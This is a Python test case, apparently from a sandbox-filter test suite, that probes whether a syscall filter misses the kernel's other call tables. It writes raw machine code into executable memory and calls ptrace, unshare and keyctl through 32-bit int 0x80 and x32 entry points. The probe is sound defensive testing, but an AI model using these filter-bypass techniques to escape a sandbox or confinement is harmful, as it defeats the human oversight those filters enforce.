# attack: privilege-other-tables  expect: scored=honest  alone: slot_error
"""The kernel's other tables of calls, which a filter for one of them does not see: x32, and 32 bits by machine code."""

import ctypes
import mmap
import os
import platform
import signal
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
COLUMN = 0 if platform.machine() == "x86_64" else 1


def succeeds(action):
    """Try in a child, which a forbidden call may end; true where the call gave no error."""
    child = os.fork()
    if not child:
        got = -1
        try:
            signal.alarm(5)
            got = action()
        finally:
            os._exit(0 if got >= 0 else 1)
    return os.waitpid(child, 0)[1] == 0


def machine_code(code):
    place = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    place.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(place)))()


def through_int80(number):
    return machine_code(
        b"\x53\xb8" + struct.pack("<I", number) + b"\x31\xdb\x31\xc9\x31\xd2\xcd\x80\x48\x63\xc0\x5b\xc3"
    )


def through_syscall(number):
    return machine_code(b"\xb8" + struct.pack("<I", number) + b"\x31\xff\x31\xf6\x31\xd2\x0f\x05\xc3")


if COLUMN == 0:
    for call, number in (("getpid", 20), ("getuid", 199), ("ptrace me", 26), ("unshare nothing", 310)):
        if succeeds(lambda: through_int80(number)):
            reached(f"{call} of 32 bits")
    for call, number in (("getpid", 39), ("ptrace me", 521), ("unshare nothing", 272), ("getuid", 102)):
        if succeeds(lambda: libc.syscall(ctypes.c_long(0x40000000 + number))):
            reached(f"{call} of x32")
        if succeeds(lambda: through_syscall(0x40000000 + number)):
            reached(f"{call} of x32 by machine code")
    for call, number in (("ptrace me", 101), ("unshare nothing", 272), ("keyctl", 250)):
        if succeeds(lambda: through_syscall(number)):
            reached(f"{call} by machine code")
else:
    for call, number in (("ptrace me", 117), ("unshare nothing", 97), ("keyctl", 219)):
        if succeeds(lambda: libc.syscall(number, 0, 0, 0, 0)):
            reached(f"{call} on this machine")
